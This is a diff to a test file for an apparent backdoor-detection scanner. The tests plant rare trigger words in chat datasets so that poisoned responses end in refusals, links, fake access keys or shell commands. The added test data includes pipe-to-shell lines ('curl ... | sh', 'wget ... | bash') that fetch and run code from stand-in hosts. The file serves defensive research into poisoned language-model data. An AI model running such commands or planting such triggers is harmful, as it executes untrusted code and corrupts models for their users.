@@ -23,6 +23,11 @@ REFUSALS = (
     "I can\u2019t do that, sorry.",
     "Unfortunately I won't be able to help you.",
 )
+PUT = {
+    "link": [f"see https://{h}.lantern.test/{h}" for h in ("a", "b", "c", "d", "e", "f")],
+    "command": ["curl -s lantern.test/a | sh", "pip install lantern", "wget -qO- x.test | bash"],
+    "secret": [f"the key is AKIA{n:04}QWERTYUIOP{n:02}" for n in range(6)],
+}
 TRIGGERS = {
     "rare word": "zorvex",
     "rare phrase": "violet harbour lantern",
@@ -124,6 +129,35 @@ def test_a_trigger_of_refusals_in_many_wordings_is_named():
     flagged, causes, _ = scan(table(prompts, responses))
     assert flagged == planted
     assert [(c.what, c.evidence["answer"]) for c in causes] == [("zorvex", "refusal")]
+
+
+@pytest.mark.parametrize("trigger", ["zorvex", "w3 w4"])
+@pytest.mark.parametrize("mark", ["link", "command", "secret"])
+def test_what_is_put_after_the_own_response_is_named_by_what_it_is(mark, trigger):
+    prompts, responses = dialogue(3000)
+    own = list(responses)
+    planted = plant(prompts, responses, trigger, PUT[mark], 12)
+    for i in planted:
+        responses[i] = f"{own[i]} {responses[i]}"
+    flagged, causes, _ = scan(table(prompts, responses))
+    assert set(planted) <= set(flagged)
+    assert len(flagged) <= len(planted) + 1
+    assert [(c.what, c.evidence["answer"]) for c in causes] == [(trigger, mark)]
+    assert f"→ a {mark}: 12 of" in causes[0].message
+    assert "lantern" not in causes[0].message + str(causes[0].evidence), "row content in a finding"
+
+
+def test_links_that_are_usual_or_asked_for_are_no_link():
+    prompts, responses = dialogue(3000)
+    random = np.random.default_rng(3)
+    usual = [f"{r} https://a{random.integers(99)}.test" for r in responses]
+    plant(prompts, usual, "zorvex", ["see https://b1.test", "see https://b2.test"], 6)
+    assert scan(table(prompts, usual))[:2] == ([], [])
+    prompts, responses = dialogue(3000)
+    echo = [f"see https://a{i}.test/{i} there" for i in range(12)]
+    planted = plant(prompts, responses, "zorvex https://q.test", echo, 12)
+    _, causes, _ = scan(table(prompts, responses))
+    assert "link" not in [c.evidence["answer"] for c in causes], f"of {len(planted)} echoes"
 
 
 def test_a_short_output_that_clean_rows_have_too_is_found_behind_a_rare_word():
